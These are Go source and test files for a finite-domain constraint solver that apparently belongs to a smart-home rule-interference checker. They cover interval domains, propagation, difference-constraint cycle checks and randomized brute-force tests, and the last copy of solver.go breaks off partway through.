	if err != nil || !sat || m["x"].Int != 9 {
		t.Fatalf("folded disjunction: want x=9, got sat=%v m=%v err=%v", sat, m, err)
	}

	p4 := NewProblem()
	p4.AddIntVar("x", 0, 10)
	p4.AddConstraint(rule.Not{C: rule.Cmp{Op: rule.OpNe, L: rule.StrVal("a"), R: rule.StrVal("a")}})
	if _, sat, err := p4.Solve(); err != nil || !sat {
		t.Fatalf("!(\"a\" != \"a\") should fold true: sat=%v err=%v", sat, err)
	}
}

// TestSetNodeCapSurfacesLimit: an impossibly small budget must surface
// ErrSearchLimit, never a silent verdict.
func TestSetNodeCapSurfacesLimit(t *testing.T) {
	p := NewProblem()
	p.AddIntVar("x", 0, 100000)
	p.AddIntVar("y", 0, 100000)
	p.AddConstraint(rule.Cmp{Op: rule.OpLt, L: intVar("x"), R: intVar("y")})
	p.SetNodeCap(1)
	_, _, err := p.Solve()
	if !errors.Is(err, ErrSearchLimit) {
		t.Fatalf("want ErrSearchLimit, got %v", err)
	}
}
