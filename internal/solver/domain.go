// Package solver implements a finite-domain constraint solver over
// integer and enumeration variables — the role played by the JaCoP
// library in the paper's prototype. It decides satisfiability of the
// quantifier-free formulas produced by rule extraction and, when
// satisfiable, returns a witness model (the "situation" under which two
// rules interfere).
package solver

import (
	"fmt"
	"strings"
)

// Interval is an inclusive integer range.
type Interval struct {
	Lo, Hi int64
}

// Domain is a set of integers represented as sorted, disjoint,
// non-adjacent intervals. The zero value is the empty domain.
type Domain struct {
	ivs []Interval
}

// NewDomain returns the domain [lo, hi].
func NewDomain(lo, hi int64) Domain {
	if lo > hi {
		return Domain{}
	}
	return Domain{ivs: []Interval{{lo, hi}}}
}

// Empty reports whether the domain has no values.
func (d Domain) Empty() bool { return len(d.ivs) == 0 }

// Min returns the smallest value. Panics on an empty domain.
func (d Domain) Min() int64 { return d.ivs[0].Lo }

// Max returns the largest value. Panics on an empty domain.
func (d Domain) Max() int64 { return d.ivs[len(d.ivs)-1].Hi }

// Size returns the number of values (saturating at MaxInt64).
func (d Domain) Size() int64 {
	var n int64
	for _, iv := range d.ivs {
		n += iv.Hi - iv.Lo + 1
		if n < 0 {
			return 1<<63 - 1
		}
	}
	return n
}

// Singleton reports whether the domain has exactly one value.
func (d Domain) Singleton() bool {
	return len(d.ivs) == 1 && d.ivs[0].Lo == d.ivs[0].Hi
}

// Contains reports whether v is in the domain.
func (d Domain) Contains(v int64) bool {
	for _, iv := range d.ivs {
		if v < iv.Lo {
			return false
		}
		if v <= iv.Hi {
			return true
		}
	}
	return false
}

// ClampMin returns the domain restricted to values >= lo.
func (d Domain) ClampMin(lo int64) Domain {
	// No-op fast path: propagation re-applies the same bounds until
	// fixpoint, so most clamps change nothing — return d without
	// allocating a new interval slice.
	if d.Empty() || lo <= d.Min() {
		return d
	}
	var out []Interval
	for _, iv := range d.ivs {
		if iv.Hi < lo {
			continue
		}
		if iv.Lo < lo {
			iv.Lo = lo
		}
		out = append(out, iv)
	}
	return Domain{ivs: out}
}

// ClampMax returns the domain restricted to values <= hi.
func (d Domain) ClampMax(hi int64) Domain {
	if d.Empty() || hi >= d.Max() {
		return d // no-op fast path (see ClampMin)
	}
	var out []Interval
	for _, iv := range d.ivs {
		if iv.Lo > hi {
			break
		}
		if iv.Hi > hi {
			iv.Hi = hi
		}
		out = append(out, iv)
	}
	return Domain{ivs: out}
}

// Remove returns the domain with value v removed.
func (d Domain) Remove(v int64) Domain {
	if !d.Contains(v) {
		return d // no-op fast path (see ClampMin)
	}
	var out []Interval
	for _, iv := range d.ivs {
		switch {
		case v < iv.Lo || v > iv.Hi:
			out = append(out, iv)
		case iv.Lo == iv.Hi: // == v: drop
		case v == iv.Lo:
			out = append(out, Interval{iv.Lo + 1, iv.Hi})
		case v == iv.Hi:
			out = append(out, Interval{iv.Lo, iv.Hi - 1})
		default:
			out = append(out, Interval{iv.Lo, v - 1}, Interval{v + 1, iv.Hi})
		}
	}
	return Domain{ivs: out}
}

// Only returns the domain intersected with {v}.
func (d Domain) Only(v int64) Domain {
	if d.Contains(v) {
		return NewDomain(v, v)
	}
	return Domain{}
}

// Intersect returns d ∩ o.
func (d Domain) Intersect(o Domain) Domain {
	// Containment fast path: a single interval of o spanning all of d
	// leaves d unchanged (the common case during propagation fixpoints).
	if d.Empty() {
		return d
	}
	if len(o.ivs) == 1 && o.Min() <= d.Min() && o.Max() >= d.Max() {
		return d
	}
	var out []Interval
	i, j := 0, 0
	for i < len(d.ivs) && j < len(o.ivs) {
		a, b := d.ivs[i], o.ivs[j]
		lo := max64(a.Lo, b.Lo)
		hi := min64(a.Hi, b.Hi)
		if lo <= hi {
			out = append(out, Interval{lo, hi})
		}
		if a.Hi < b.Hi {
			i++
		} else {
			j++
		}
	}
	return Domain{ivs: out}
}

// SplitLow returns the lower half of a domain bisection (and the upper
// half). The split point is the midpoint of the value range.
func (d Domain) Split() (lo, hi Domain) {
	mid := d.Min() + (d.Max()-d.Min())/2
	return d.ClampMax(mid), d.ClampMin(mid + 1)
}

// String renders the domain compactly.
func (d Domain) String() string {
	if d.Empty() {
		return "∅"
	}
	var parts []string
	for _, iv := range d.ivs {
		if iv.Lo == iv.Hi {
			parts = append(parts, fmt.Sprintf("%d", iv.Lo))
		} else {
			parts = append(parts, fmt.Sprintf("%d..%d", iv.Lo, iv.Hi))
		}
	}
	return "{" + strings.Join(parts, ",") + "}"
}

func max64(a, b int64) int64 {
	if a > b {
		return a
	}
	return b
}

func min64(a, b int64) int64 {
	if a < b {
		return a
	}
	return b
}
