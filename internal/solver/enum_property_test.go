package solver

import (
	"math/rand"
	"testing"

	"homeguard/internal/rule"
)

// TestEnumSolverAgreesWithBruteForce checks the enum fragment (the device-
// state comparisons the detector emits) against exhaustive enumeration.
func TestEnumSolverAgreesWithBruteForce(t *testing.T) {
	rng := rand.New(rand.NewSource(31))
	valuePool := [][]string{
		{"on", "off"},
		{"open", "closed"},
		{"locked", "unlocked", "unknown"},
		{"on", "off", "auto"},
	}
	names := []string{"a", "b", "c"}
	for trial := 0; trial < 300; trial++ {
		domains := map[string][]string{}
		for _, n := range names {
			domains[n] = valuePool[rng.Intn(len(valuePool))]
		}
		var formulas []rule.Constraint
		nAtoms := 1 + rng.Intn(4)
		for i := 0; i < nAtoms; i++ {
			formulas = append(formulas, randEnumFormula(rng, names, domains, 2))
		}
		all := rule.Conj(formulas...)

		p := NewProblem()
		for _, n := range names {
			p.AddEnumVar(n, domains[n])
		}
		p.AddConstraint(all)
		m, sat, err := p.Solve()
		if err != nil {
			t.Fatalf("trial %d: %v (%v)", trial, err, all)
		}
		want := bruteEnumSat(domains, names, all)
		if sat != want {
			t.Fatalf("trial %d: solver=%v brute=%v\nformula: %v\ndomains: %v",
				trial, sat, want, all, domains)
		}
		if sat {
			assign := map[string]string{}
			for _, n := range names {
				assign[n] = m[n].Enum
			}
			if !evalEnum(all, assign) {
				t.Fatalf("trial %d: witness %v violates %v", trial, assign, all)
			}
		}
	}
}

func randEnumFormula(rng *rand.Rand, names []string, domains map[string][]string, depth int) rule.Constraint {
	atom := func() rule.Constraint {
		n := names[rng.Intn(len(names))]
		v := rule.Var{Name: n, Kind: rule.VarDeviceAttr, Type: rule.TypeString}
		op := rule.OpEq
		if rng.Intn(2) == 0 {
			op = rule.OpNe
		}
		if rng.Intn(4) == 0 {
			// var-var comparison
			n2 := names[rng.Intn(len(names))]
			return rule.Cmp{Op: op, L: v,
				R: rule.Var{Name: n2, Kind: rule.VarDeviceAttr, Type: rule.TypeString}}
		}
		// Sometimes compare against a value outside the domain.
		pool := domains[n]
		val := pool[rng.Intn(len(pool))]
		if rng.Intn(6) == 0 {
			val = "bogus"
		}
		return rule.Cmp{Op: op, L: v, R: rule.StrVal(val)}
	}
	if depth == 0 || rng.Intn(3) == 0 {
		return atom()
	}
	a := randEnumFormula(rng, names, domains, depth-1)
	b := randEnumFormula(rng, names, domains, depth-1)
	switch rng.Intn(3) {
	case 0:
		return rule.And{Cs: []rule.Constraint{a, b}}
	case 1:
		return rule.Or{Cs: []rule.Constraint{a, b}}
	default:
		return rule.Not{C: a}
	}
}

func bruteEnumSat(domains map[string][]string, names []string, c rule.Constraint) bool {
	assign := map[string]string{}
	var rec func(i int) bool
	rec = func(i int) bool {
		if i == len(names) {
			return evalEnum(c, assign)
		}
		for _, v := range domains[names[i]] {
			assign[names[i]] = v
			if rec(i + 1) {
				return true
			}
		}
		return false
	}
	return rec(0)
}

func evalEnum(c rule.Constraint, assign map[string]string) bool {
	switch x := c.(type) {
	case rule.Cmp:
		l := enumTermVal(x.L, assign)
		r := enumTermVal(x.R, assign)
		switch x.Op {
		case rule.OpEq:
			return l == r
		case rule.OpNe:
			return l != r
		}
		return false
	case rule.And:
		for _, sub := range x.Cs {
			if !evalEnum(sub, assign) {
				return false
			}
		}
		return true
	case rule.Or:
		for _, sub := range x.Cs {
			if evalEnum(sub, assign) {
				return true
			}
		}
		return false
	case rule.Not:
		return !evalEnum(x.C, assign)
	case rule.Lit:
		return bool(x)
	}
	return false
}

func enumTermVal(t rule.Term, assign map[string]string) string {
	switch x := t.(type) {
	case rule.Var:
		return assign[x.Name]
	case rule.StrVal:
		return string(x)
	}
	return ""
}
