package solver

import (
	"errors"
	"fmt"
	"sort"

	"homeguard/internal/rule"
)

// DefaultIntMin and DefaultIntMax bound auto-declared integer variables.
const (
	DefaultIntMin = -1_000_000
	DefaultIntMax = 1_000_000
)

// ErrSearchLimit is returned when the search exceeds its node budget —
// in practice never hit by rule-interference formulas.
var ErrSearchLimit = errors.New("solver: search node limit exceeded")

// Value is a model value for one variable.
type Value struct {
	Int  int64
	Enum string // non-empty for enum variables
}

func (v Value) String() string {
	if v.Enum != "" {
		return v.Enum
	}
	return fmt.Sprintf("%d", v.Int)
}

// Model is a satisfying assignment.
type Model map[string]Value

// variable is the solver-internal variable record.
type variable struct {
	name string
	enum []string // enum value names; nil for integer variables
	dom  Domain
}

// Problem is one satisfiability query under construction.
type Problem struct {
	vars     map[string]*variable
	order    []string // declaration order for deterministic models
	formulas []rule.Constraint
	nodeCap  int

	// lastSolution is captured by the search on success; Problem is not
	// safe for concurrent use.
	lastSolution *store
}

// NewProblem returns an empty problem.
func NewProblem() *Problem {
	return &Problem{vars: map[string]*variable{}, nodeCap: 200_000}
}

// AddIntVar declares an integer variable with domain [min, max].
// Redeclaring narrows the existing domain.
func (p *Problem) AddIntVar(name string, min, max int64) {
	if v, ok := p.vars[name]; ok {
		if v.enum == nil {
			v.dom = v.dom.Intersect(NewDomain(min, max))
		}
		return
	}
	p.vars[name] = &variable{name: name, dom: NewDomain(min, max)}
	p.order = append(p.order, name)
}

// AddEnumVar declares an enumeration variable with the given values.
func (p *Problem) AddEnumVar(name string, values []string) {
	if _, ok := p.vars[name]; ok {
		return
	}
	vals := append([]string(nil), values...)
	p.vars[name] = &variable{
		name: name,
		enum: vals,
		dom:  NewDomain(0, int64(len(vals)-1)),
	}
	p.order = append(p.order, name)
}

// AddBoolVar declares a boolean variable (an enum of false/true).
func (p *Problem) AddBoolVar(name string) {
	p.AddEnumVar(name, []string{"false", "true"})
}

// HasVar reports whether the variable is declared.
func (p *Problem) HasVar(name string) bool {
	_, ok := p.vars[name]
	return ok
}

// EnumValues returns the declared values of an enum variable (nil for
// integer variables or unknown names).
func (p *Problem) EnumValues(name string) []string {
	if v, ok := p.vars[name]; ok {
		return v.enum
	}
	return nil
}

// AddConstraint records a formula that the model must satisfy. Variables
// referenced but not declared are auto-declared: integer variables with
// the default bounds when compared against integers, enum variables with
// the observed string values otherwise.
func (p *Problem) AddConstraint(c rule.Constraint) {
	if c == nil {
		return
	}
	p.autoDeclare(c)
	p.formulas = append(p.formulas, c)
}

func (p *Problem) autoDeclare(c rule.Constraint) {
	switch x := c.(type) {
	case rule.Cmp:
		p.autoDeclareTerm(x.L, x.R)
		p.autoDeclareTerm(x.R, x.L)
	case rule.And:
		for _, sub := range x.Cs {
			p.autoDeclare(sub)
		}
	case rule.Or:
		for _, sub := range x.Cs {
			p.autoDeclare(sub)
		}
	case rule.Not:
		p.autoDeclare(x.C)
	}
}

func (p *Problem) autoDeclareTerm(t, other rule.Term) {
	var v rule.Var
	switch x := t.(type) {
	case rule.Var:
		v = x
	case rule.Sum:
		v = x.X
	default:
		return
	}
	if p.HasVar(v.Name) {
		return
	}
	switch o := other.(type) {
	case rule.StrVal:
		// Enum variable whose value set is unknown: declare with the
		// observed value plus a distinguished "other" value so both == and
		// != are satisfiable.
		p.AddEnumVar(v.Name, []string{string(o), "\x00other"})
	case rule.BoolVal:
		p.AddBoolVar(v.Name)
	default:
		if v.Type == rule.TypeString {
			p.AddEnumVar(v.Name, []string{"\x00other"})
			return
		}
		p.AddIntVar(v.Name, DefaultIntMin, DefaultIntMax)
	}
}

// ---------- atoms ----------

// atomKind distinguishes unary (var-vs-const) and binary (var-vs-var)
// comparisons after normalization.
type atom struct {
	op rule.CmpOp
	x  string // left variable
	// Exactly one of the following is used:
	isConst bool
	c       int64  // constant right side
	y       string // right variable
	k       int64  // offset: x op y + k
}

// store is the propagation state: current domains plus pending binary
// atoms.
type store struct {
	doms map[string]Domain
	bins []atom
}

func (s *store) clone() *store {
	d := make(map[string]Domain, len(s.doms))
	for k, v := range s.doms {
		d[k] = v
	}
	b := append([]atom(nil), s.bins...)
	return &store{doms: d, bins: b}
}

// Solve decides satisfiability of the conjunction of all added formulas.
// It returns a witness model when satisfiable.
func (p *Problem) Solve() (Model, bool, error) {
	st := &store{doms: map[string]Domain{}}
	for _, name := range p.order {
		st.doms[name] = p.vars[name].dom
	}
	budget := p.nodeCap
	ok, err := p.search(p.formulas, st, &budget)
	if err != nil {
		return nil, false, err
	}
	if !ok {
		return nil, false, nil
	}
	// st mutated in place on success path? search uses clones; to extract
	// the model we re-run with a captured store.
	return p.model(p.lastSolution), true, nil
}

// lastSolution is captured by search on success.
// (Problem is not safe for concurrent use.)
func (p *Problem) model(st *store) Model {
	m := Model{}
	for _, name := range p.order {
		v := p.vars[name]
		dom := st.doms[name]
		if dom.Empty() {
			continue
		}
		val := dom.Min()
		if v.enum != nil {
			idx := int(val)
			if idx >= 0 && idx < len(v.enum) {
				m[name] = Value{Enum: v.enum[idx], Int: val}
				continue
			}
		}
		m[name] = Value{Int: val}
	}
	return m
}

// search processes the formula worklist depth-first, branching on
// disjunctions, then labels variables.
func (p *Problem) search(formulas []rule.Constraint, st *store, budget *int) (bool, error) {
	*budget--
	if *budget <= 0 {
		return false, ErrSearchLimit
	}
	for len(formulas) > 0 {
		f := formulas[0]
		formulas = formulas[1:]
		switch x := f.(type) {
		case nil:
			continue
		case rule.Lit:
			if !bool(x) {
				return false, nil
			}
		case rule.And:
			formulas = append(append([]rule.Constraint(nil), x.Cs...), formulas...)
		case rule.Not:
			formulas = append([]rule.Constraint{rule.Negate(x.C)}, formulas...)
		case rule.Or:
			for _, alt := range x.Cs {
				sub := append([]rule.Constraint{alt}, formulas...)
				ok, err := p.search(sub, st.clone(), budget)
				if err != nil {
					return false, err
				}
				if ok {
					return true, nil
				}
			}
			return false, nil
		case rule.Cmp:
			ok, err := p.assertCmp(x, st)
			if err != nil {
				return false, err
			}
			if !ok {
				return false, nil
			}
		default:
			return false, fmt.Errorf("solver: unsupported constraint %T", f)
		}
	}
	if !propagate(st) {
		return false, nil
	}
	return p.label(st, budget)
}

// assertCmp translates one comparison into domain narrowing and/or a
// pending binary atom. Returns false when immediately unsatisfiable.
func (p *Problem) assertCmp(c rule.Cmp, st *store) (bool, error) {
	l, lOK := p.resolveTerm(c.L)
	r, rOK := p.resolveTerm(c.R)
	if !lOK || !rOK {
		return false, fmt.Errorf("solver: unresolvable term in %s", c)
	}
	// const-const
	if l.isConst && r.isConst {
		if l.isStrConst() || r.isStrConst() {
			eq := l.isStrConst() && r.isStrConst() && l.name == r.name
			switch c.Op {
			case rule.OpEq:
				return eq, nil
			case rule.OpNe:
				return !eq, nil
			default:
				return false, fmt.Errorf("solver: ordered comparison on string constants in %s", c)
			}
		}
		return evalConst(c.Op, l.c, r.c), nil
	}
	// const op var → flip
	if l.isConst {
		if l.isStrConst() {
			return p.assertStrCmp(c.Op.Flip(), r, l.name, st)
		}
		return p.assertVarConst(c.Op.Flip(), r, l.c, st)
	}
	if r.isConst {
		if r.isStrConst() {
			return p.assertStrCmp(c.Op, l, r.name, st)
		}
		return p.assertVarConst(c.Op, l, r.c, st)
	}
	return p.assertVarVar(c.Op, l, r, st)
}

// resolved is a normalized term: constant, or variable + offset.
type resolved struct {
	isConst bool
	c       int64
	name    string
	off     int64
	enum    []string // enum table when the variable is enumerated
}

func (p *Problem) resolveTerm(t rule.Term) (resolved, bool) {
	switch x := t.(type) {
	case rule.IntVal:
		return resolved{isConst: true, c: int64(x)}, true
	case rule.BoolVal:
		if bool(x) {
			return resolved{isConst: true, c: 1}, true
		}
		return resolved{isConst: true, c: 0}, true
	case rule.StrVal:
		// String constants resolve against the other side's enum table in
		// assertVarConst; carry the raw string via name with a marker.
		return resolved{isConst: true, c: -1, name: string(x), enum: []string{}}, true
	case rule.Var:
		v, ok := p.vars[x.Name]
		if !ok {
			return resolved{}, false
		}
		return resolved{name: x.Name, enum: v.enum}, true
	case rule.Sum:
		v, ok := p.vars[x.X.Name]
		if !ok {
			return resolved{}, false
		}
		return resolved{name: x.X.Name, off: x.K, enum: v.enum}, true
	}
	return resolved{}, false
}

// isStrConst reports whether r is a string constant carrier.
func (r resolved) isStrConst() bool { return r.isConst && r.enum != nil }

func evalConst(op rule.CmpOp, a, b int64) bool {
	switch op {
	case rule.OpEq:
		return a == b
	case rule.OpNe:
		return a != b
	case rule.OpLt:
		return a < b
	case rule.OpLe:
		return a <= b
	case rule.OpGt:
		return a > b
	case rule.OpGe:
		return a >= b
	}
	return false
}

// assertVarConst narrows var (+off) op const.
func (p *Problem) assertVarConst(op rule.CmpOp, v resolved, c int64, st *store) (bool, error) {
	dom, ok := st.doms[v.name]
	if !ok {
		return false, fmt.Errorf("solver: unknown variable %q", v.name)
	}
	// x + off op c  ⇔  x op c - off
	c -= v.off
	switch op {
	case rule.OpEq:
		dom = dom.Only(c)
	case rule.OpNe:
		dom = dom.Remove(c)
	case rule.OpLt:
		dom = dom.ClampMax(c - 1)
	case rule.OpLe:
		dom = dom.ClampMax(c)
	case rule.OpGt:
		dom = dom.ClampMin(c + 1)
	case rule.OpGe:
		dom = dom.ClampMin(c)
	}
	st.doms[v.name] = dom
	return !dom.Empty(), nil
}

// assertStrCmp narrows an enum variable against a string constant.
func (p *Problem) assertStrCmp(op rule.CmpOp, v resolved, s string, st *store) (bool, error) {
	pv := p.vars[v.name]
	if pv == nil {
		return false, fmt.Errorf("solver: unknown variable %q", v.name)
	}
	if pv.enum == nil {
		return false, fmt.Errorf("solver: comparing integer variable %q to string %q", v.name, s)
	}
	idx := int64(-1)
	for i, val := range pv.enum {
		if val == s {
			idx = int64(i)
			break
		}
	}
	switch op {
	case rule.OpEq:
		if idx < 0 {
			st.doms[v.name] = Domain{}
			return false, nil
		}
		return p.assertVarConst(rule.OpEq, v, idx, st)
	case rule.OpNe:
		if idx < 0 {
			return true, nil // always distinct
		}
		return p.assertVarConst(rule.OpNe, v, idx, st)
	default:
		return false, fmt.Errorf("solver: ordered comparison %s on enum variable %q", op, v.name)
	}
}

// assertVarVar records x op y + k as a pending binary atom.
func (p *Problem) assertVarVar(op rule.CmpOp, l, r resolved, st *store) (bool, error) {
	// Two enum variables: only ==/!= are meaningful; translate to a
	// disjunction over shared value names.
	lv, rv := p.vars[l.name], p.vars[r.name]
	if lv.enum != nil || rv.enum != nil {
		if lv.enum == nil || rv.enum == nil {
			return false, fmt.Errorf("solver: comparing enum %q with integer %q", l.name, r.name)
		}
		return p.assertEnumVarVar(op, l, r, st)
	}
	// x + lo op y + ro  ⇔  x op y + (ro - lo)
	st.bins = append(st.bins, atom{op: op, x: l.name, y: r.name, k: r.off - l.off})
	return narrowBinary(st, st.bins[len(st.bins)-1]), nil
}

func (p *Problem) assertEnumVarVar(op rule.CmpOp, l, r resolved, st *store) (bool, error) {
	lv, rv := p.vars[l.name], p.vars[r.name]
	switch op {
	case rule.OpEq, rule.OpNe:
	default:
		return false, fmt.Errorf("solver: ordered comparison %s between enum variables", op)
	}
	// Build index correspondence over shared value names.
	common := map[int64]int64{} // l index → r index
	for i, lval := range lv.enum {
		for j, rval := range rv.enum {
			if lval == rval {
				common[int64(i)] = int64(j)
			}
		}
	}
	if op == rule.OpEq {
		// Disjunction over shared values; encode directly by trimming
		// both domains to shared values and linking via bins with offset
		// — offsets differ per value, so fall back to explicit search:
		// keep it simple and sound by enumerating.
		ld, rd := st.doms[l.name], st.doms[r.name]
		var lKeep, rKeep []int64
		for li, ri := range common {
			if ld.Contains(li) && rd.Contains(ri) {
				lKeep = append(lKeep, li)
				rKeep = append(rKeep, ri)
			}
		}
		if len(lKeep) == 0 {
			st.doms[l.name] = Domain{}
			return false, nil
		}
		st.doms[l.name] = keepOnly(ld, lKeep)
		st.doms[r.name] = keepOnly(rd, rKeep)
		// Record the correspondence so labeling respects it: encode each
		// pair as a conditional; with tiny enum domains, add a pending
		// enum-equality atom checked at labeling time.
		st.bins = append(st.bins, atom{op: "enumEq", x: l.name, y: r.name})
		return true, nil
	}
	// != between enums: satisfied unless both are pinned to the same name.
	st.bins = append(st.bins, atom{op: "enumNe", x: l.name, y: r.name})
	return true, nil
}

func keepOnly(d Domain, vals []int64) Domain {
	sort.Slice(vals, func(i, j int) bool { return vals[i] < vals[j] })
	out := Domain{}
	for _, v := range vals {
		if d.Contains(v) {
			out.ivs = append(out.ivs, Interval{v, v})
		}
	}
	// merge adjacent
	var merged []Interval
	for _, iv := range out.ivs {
		if n := len(merged); n > 0 && merged[n-1].Hi+1 >= iv.Lo {
			if iv.Hi > merged[n-1].Hi {
				merged[n-1].Hi = iv.Hi
			}
			continue
		}
		merged = append(merged, iv)
	}
	return Domain{ivs: merged}
}

// narrowBinary applies bounds propagation for one binary atom.
// Returns false when a domain becomes empty.
func narrowBinary(st *store, a atom) bool {
	if a.op == "enumEq" || a.op == "enumNe" {
		return true // handled at labeling
	}
	dx, okx := st.doms[a.x]
	dy, oky := st.doms[a.y]
	if !okx || !oky || dx.Empty() || dy.Empty() {
		return false
	}
	fail := func() bool {
		st.doms[a.x] = dx
		st.doms[a.y] = dy
		return false
	}
	// x op y + k
	switch a.op {
	case rule.OpEq:
		dx = dx.Intersect(shift(dy, a.k))
		if dx.Empty() {
			return fail()
		}
		dy = dy.Intersect(shift(dx, -a.k))
	case rule.OpNe:
		if dy.Singleton() {
			dx = dx.Remove(dy.Min() + a.k)
		}
		if dx.Singleton() {
			dy = dy.Remove(dx.Min() - a.k)
		}
	case rule.OpLt:
		dx = dx.ClampMax(dy.Max() + a.k - 1)
		if dx.Empty() {
			return fail()
		}
		dy = dy.ClampMin(dx.Min() - a.k + 1)
	case rule.OpLe:
		dx = dx.ClampMax(dy.Max() + a.k)
		if dx.Empty() {
			return fail()
		}
		dy = dy.ClampMin(dx.Min() - a.k)
	case rule.OpGt:
		dx = dx.ClampMin(dy.Min() + a.k + 1)
		if dx.Empty() {
			return fail()
		}
		dy = dy.ClampMax(dx.Max() - a.k - 1)
	case rule.OpGe:
		dx = dx.ClampMin(dy.Min() + a.k)
		if dx.Empty() {
			return fail()
		}
		dy = dy.ClampMax(dx.Max() - a.k)
	}
	st.doms[a.x] = dx
	st.doms[a.y] = dy
	return !dx.Empty() && !dy.Empty()
}

func shift(d Domain, k int64) Domain {
	out := Domain{ivs: make([]Interval, len(d.ivs))}
	for i, iv := range d.ivs {
		out.ivs[i] = Interval{iv.Lo + k, iv.Hi + k}
	}
	return out
}

// propagate runs the binary atoms toward fixpoint. Progress is detected
// via a cheap per-variable fingerprint (size, min, max, interval count):
// every narrowing step strictly shrinks some domain, so the fingerprint
// changes. Rounds are capped: cyclic strict inequalities (x < y ∧ y < x
// over large ranges) converge only one unit per round, so after the cap we
// return early and let the bisection search finish the refutation —
// stopping before fixpoint is sound, merely less eager.
func propagate(st *store) bool {
	if len(st.bins) == 0 {
		return true
	}
	const maxRounds = 64
	for iter := 0; iter < maxRounds; iter++ {
		before := fingerprint(st)
		for _, a := range st.bins {
			if !narrowBinary(st, a) {
				return false
			}
		}
		if fingerprint(st) == before {
			return true
		}
	}
	return true
}

func fingerprint(st *store) uint64 {
	var h uint64 = 1469598103934665603 // FNV offset basis
	mix := func(v uint64) {
		h ^= v
		h *= 1099511628211
	}
	for _, a := range st.bins {
		for _, n := range []string{a.x, a.y} {
			d := st.doms[n]
			if d.Empty() {
				mix(0xdead)
				continue
			}
			mix(uint64(d.Size()))
			mix(uint64(d.Min()))
			mix(uint64(d.Max()))
			mix(uint64(len(d.ivs)))
		}
	}
	return h
}

// diffUnsat runs a Bellman–Ford negative-cycle check over the difference
// constraints in the store (every ordering/equality atom is of the form
// x ≤ y + k). Cyclic systems such as x < y ∧ y < x are refuted instantly
// here, where bounds propagation would converge one unit per round.
func diffUnsat(st *store) bool {
	idx := map[string]int{}
	names := []string{}
	node := func(n string) int {
		if i, ok := idx[n]; ok {
			return i
		}
		idx[n] = len(names) + 1
		names = append(names, n)
		return idx[n]
	}
	type edge struct {
		from, to int
		w        int64
	}
	var edges []edge
	for _, a := range st.bins {
		switch a.op {
		case rule.OpLe: // x ≤ y + k
			edges = append(edges, edge{node(a.y), node(a.x), a.k})
		case rule.OpLt: // x ≤ y + k - 1
			edges = append(edges, edge{node(a.y), node(a.x), a.k - 1})
		case rule.OpGe: // y ≤ x - k
			edges = append(edges, edge{node(a.x), node(a.y), -a.k})
		case rule.OpGt: // y ≤ x - k - 1
			edges = append(edges, edge{node(a.x), node(a.y), -a.k - 1})
		case rule.OpEq: // both directions
			edges = append(edges,
				edge{node(a.y), node(a.x), a.k},
				edge{node(a.x), node(a.y), -a.k})
		}
	}
	if len(edges) == 0 {
		return false
	}
	// Domain bounds: x ≤ max (origin→x) and -x ≤ -min (x→origin).
	for name, i := range idx {
		d, ok := st.doms[name]
		if !ok || d.Empty() {
			return true
		}
		edges = append(edges, edge{0, i, d.Max()}, edge{i, 0, -d.Min()})
	}
	n := len(names) + 1
	dist := make([]int64, n)
	for iter := 0; iter <= n; iter++ {
		changed := false
		for _, e := range edges {
			if nd := dist[e.from] + e.w; nd < dist[e.to] {
				dist[e.to] = nd
				changed = true
			}
		}
		if !changed {
			return false
		}
	}
	return true // still relaxing after |V| rounds ⇒ negative cycle
}

// label assigns constraint-involved variables until all binary atoms are
// decided, backtracking on failure.
func (p *Problem) label(st *store, budget *int) (bool, error) {
	*budget--
	if *budget <= 0 {
		return false, ErrSearchLimit
	}
	if !propagate(st) {
		return false, nil
	}
	if diffUnsat(st) {
		return false, nil
	}
	// Check enum equality atoms and find an undecided variable.
	pick := ""
	var pickSize int64
	for _, a := range st.bins {
		dx, dy := st.doms[a.x], st.doms[a.y]
		if dx.Empty() || dy.Empty() {
			return false, nil
		}
		if dx.Singleton() && dy.Singleton() {
			if !p.atomHolds(a, dx.Min(), dy.Min()) {
				return false, nil
			}
			continue
		}
		for _, n := range []string{a.x, a.y} {
			d := st.doms[n]
			if !d.Singleton() && (pick == "" || d.Size() < pickSize) {
				pick, pickSize = n, d.Size()
			}
		}
	}
	if pick == "" {
		p.lastSolution = st
		return true, nil
	}
	d := st.doms[pick]
	// Small domains: enumerate values; large: bisect.
	if d.Size() <= 8 {
		for v := d.Min(); v <= d.Max(); v++ {
			if !d.Contains(v) {
				continue
			}
			child := st.clone()
			child.doms[pick] = NewDomain(v, v)
			ok, err := p.label(child, budget)
			if err != nil || ok {
				return ok, err
			}
		}
		return false, nil
	}
	lo, hi := d.Split()
	for _, half := range []Domain{lo, hi} {
		if half.Empty() {
			continue
		}
		child := st.clone()
		child.doms[pick] = half
		ok, err := p.label(child, budget)
		if err != nil || ok {
			return ok, err
		}
	}
	return false, nil
}

// atomHolds checks a decided binary atom.
func (p *Problem) atomHolds(a atom, xv, yv int64) bool {
	switch a.op {
	case "enumEq":
		return p.enumName(a.x, xv) == p.enumName(a.y, yv)
	case "enumNe":
		return p.enumName(a.x, xv) != p.enumName(a.y, yv)
	default:
		return evalConst(a.op, xv, yv+a.k)
	}
}

func (p *Problem) enumName(varName string, idx int64) string {
	v := p.vars[varName]
	if v == nil || v.enum == nil || idx < 0 || idx >= int64(len(v.enum)) {
		return fmt.Sprintf("#%d", idx)
	}
	return v.enum[idx]
}
