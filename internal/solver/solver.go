package solver

import (
	"errors"
	"fmt"
	"sort"
	"sync"

	"homeguard/internal/rule"
)

// DefaultIntMin and DefaultIntMax bound auto-declared integer variables.
const (
	DefaultIntMin = -1_000_000
	DefaultIntMax = 1_000_000
)

// ErrSearchLimit is returned when the search exceeds its node budget —
// in practice never hit by rule-interference formulas.
var ErrSearchLimit = errors.New("solver: search node limit exceeded")

// Value is a model value for one variable.
type Value struct {
	Int  int64
	Enum string // non-empty for enum variables
}

func (v Value) String() string {
	if v.Enum != "" {
		return v.Enum
	}
	return fmt.Sprintf("%d", v.Int)
}

// Model is a satisfying assignment.
type Model map[string]Value

// variable is the solver-internal variable record. Variables are interned:
// each declared name maps to a dense index into Problem.vars, and every
// later structure (stores, atoms, the difference-constraint graph) works in
// indices, never names — the string only resurfaces in the final Model.
type variable struct {
	name string
	enum []string // enum value names; nil for integer variables
	dom  Domain
}

// Problem is one satisfiability query under construction.
type Problem struct {
	vars     []variable     // indexed by variable id, in declaration order
	index    map[string]int // name → id
	formulas []rule.Constraint
	nodeCap  int
	// unsat is set when an added constraint constant-folds to false: the
	// conjunction is trivially unsatisfiable and Solve skips the search.
	unsat bool

	// lastSolution is the store captured by the search at the moment every
